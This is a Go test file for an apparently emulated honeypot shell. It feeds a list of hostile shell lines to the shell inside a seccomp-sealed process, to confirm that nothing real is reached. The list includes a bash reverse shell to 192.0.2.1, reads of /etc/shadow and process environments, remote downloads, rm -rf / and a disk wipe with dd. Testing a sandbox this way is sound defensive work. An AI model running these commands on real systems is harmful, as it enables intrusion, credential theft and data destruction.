package shell_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	seccomp "github.com/elastic/go-seccomp-bpf"

	"github.com/decnet/decnet/providers/decky/machine"
	"github.com/decnet/decnet/providers/decky/shell"
)

const sealVariable = "SHELL_TEST_SEAL"

// reaching are lines that want out: to files, programs and hosts of the machine
// that the shell runs on.
var reaching = []string{
	`cat /etc/passwd /etc/shadow /proc/1/environ /proc/self/maps /proc/self/environ /sys/class/net/eth0/address /dev/sda`,
	`echo x > /tmp/x; echo y > /etc/cron.d/y; echo z > /dev/shm/z; mkdir -p /var/tmp/.a; cp /bin/ls /tmp/ls; chmod +x /tmp/ls; /tmp/ls; rm -rf /tmp/* /`,
	`exec 3<>/dev/tcp/127.0.0.1/80; echo GET / >&3; cat <&3; echo x > /dev/udp/192.0.2.1/53`,
	`bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`,
	`wget http://127.0.0.1/x; curl -O http://192.0.2.1/y; tftp -g -r z 192.0.2.1; ftpget 192.0.2.1 a b; nc 127.0.0.1 22; ssh root@127.0.0.1; telnet 127.0.0.1; scp a b:c`,
	`python3 -c 'import os; os.system("id")'; perl -e 'system("id")'; php -r 'system("id");'; ruby -e 'exec "id"'; gcc -x c -`,
	`awk 'BEGIN { system("id"); while (("cat /etc/passwd" | getline l) > 0) print l; print "x" > "/tmp/awk" }'; find / -maxdepth 1 -exec ls {} ';'; xargs -a /etc/passwd echo; sed -n 'w /tmp/sed' /etc/passwd`,
	`sudo -i; su - nobody -c id; chroot / /bin/sh -c id; nsenter -t 1 -a; unshare -r id; mount -t proc proc /mnt; insmod x.ko; kill -9 1; kill -9 -1; reboot -f; dd if=/dev/zero of=/dev/sda bs=1M count=1`,
	`LD_PRELOAD=/tmp/x.so ls; PATH=/tmp ls; . /etc/profile; source /proc/self/environ; eval "$(cat /etc/passwd)"; $(echo cat) /etc/hostname; ls /proc/*/exe /proc/*/fd`,
	`date; TZ=America/New_York date; TZ=:/etc/passwd date; LANG=de_DE.UTF-8 date; locale -a; hostname; host localhost; getent hosts localhost; ping -c 1 127.0.0.1; nslookup localhost; dig localhost; traceroute 127.0.0.1`,
	`apt-get update; apt install -y nmap; yum install x; apk add x; dpkg -i /tmp/x.deb; pip install x; npm install x; docker run x; systemctl start x; crontab -l; echo '* * * * * id' | crontab -; at now; service ssh restart`,
	`cat <(cat /etc/passwd) > >(cat); coproc cat; mapfile a < /etc/passwd; read x < /etc/hostname; exec 5< /etc/passwd; cat <&5; trap 'cat /etc/passwd' EXIT; (sleep 0.1; cat /etc/passwd) & wait`,
	`tar czf /tmp/a.tgz /etc; gzip /tmp/a; unzip x; base64 /bin/ls | head; xxd /bin/ls | head; strings /bin/ls | head; md5sum /bin/*; file /bin/ls; ldd /bin/ls; strace id; gdb -p 1; tcpdump -i any; nmap 127.0.0.1; iptables -F; ip a; ss -tlnp; ps aux; top -bn1; free; df; w; last; dmesg`,
	`busybox wget http://192.0.2.1/; busybox nc 127.0.0.1 22; busybox httpd -p 8080; /bin/busybox ECCHI; busybox sh -c 'cat /proc/mounts'; useradd x; passwd x; echo root:x | chpasswd; history -c; ulimit -a; umask 0; vi /etc/passwd; nano x; less /etc/passwd; more /etc/passwd`,
}

// TestNothingRealIsReached runs the shell in a process that dies at its first
// attempt to open, make, run or reach anything, and runs every line of ours in
// it.
func TestNothingRealIsReached(t *testing.T) {
	if os.Getenv(sealVariable) != "" {
		sealed(t)
		return
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	command := exec.CommandContext(ctx, self, "-test.run", "^TestNothingRealIsReached$")
	command.Env = append(os.Environ(), sealVariable+"=yes")
	out, err := command.CombinedOutput()
	if err != nil || !bytes.Contains(out, []byte("survived")) {
		t.Errorf("the shell reached for something real: %v\n%s", err, out)
	}
}

// TestTheSealHolds breaks it, to see that it would tell.
func TestTheSealHolds(t *testing.T) {
	if os.Getenv(sealVariable) != "" {
		seal(t)
		_, _ = os.ReadFile("/etc/hostname")
		t.Log("survived")
		return
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	command := exec.Command(self, "-test.v", "-test.run", "^TestTheSealHolds$")
	command.Env = append(os.Environ(), sealVariable+"=yes")
	if out, err := command.CombinedOutput(); err == nil || bytes.Contains(out, []byte("survived")) {
		t.Errorf("a file was opened behind the seal: %s", out)
	}
}

// seal makes this process die at what the shell must never do.
func seal(t *testing.T) {
	t.Helper()
	filter := seccomp.Filter{NoNewPrivs: true, Flag: seccomp.FilterFlagTSync, Policy: seccomp.Policy{
		DefaultAction: seccomp.ActionAllow,
		Syscalls: []seccomp.SyscallGroup{{Action: seccomp.ActionKillProcess, Names: []string{
			"openat", "openat2", "execve", "execveat", "socket", "socketpair", "connect", "bind", "listen", "accept4", "sendto", "sendmsg", "unlinkat", "mkdirat", "renameat2", "linkat", "symlinkat", "fchmodat", "fchownat", "mknodat",
			"mount", "umount2", "ptrace", "chdir", "fchdir", "pivot_root", "chroot", "newfstatat", "readlinkat", "getdents64", "inotify_init1", "truncate", "statx", "memfd_create", "setns", "unshare",
		}}},
	}}
	if err := seccomp.LoadFilter(filter); err != nil {
		t.Fatal("this kernel has no seccomp filters: ", err)
	}
}

func sealed(t *testing.T) {
	type line struct {
		dialect       dialect
		setup, script string
	}
	var lines []line
	for _, d := range dialects {
		for _, text := range reaching {
			lines = append(lines, line{dialect: d, script: text})
		}
		for _, path := range caseFiles(t, d) {
			f := readCases(t, path)
			for i, c := range f.cases {
				if i%4 == 0 && !strings.Contains(c.script, "sleep") {
					lines = append(lines, line{d, f.setup, c.script})
				}
			}
		}
	}
	ours(t, dialects[0], "", "date; TZ=UTC date")
	seal(t)
	for _, l := range lines {
		s := shell.New(shell.Options{Machine: machine.New(host(), []string{"admin"}, time.Now), User: "root", Shell: l.dialect.login, Limits: small})
		var out bytes.Buffer
		if _, err := s.Run(context.Background(), l.setup+"\n"+l.script, shell.ModeExec, strings.NewReader("y\n"), &out, &out); err != nil {
			t.Error(err)
		}
	}
	_, _ = os.Stdout.WriteString("survived\n")
}
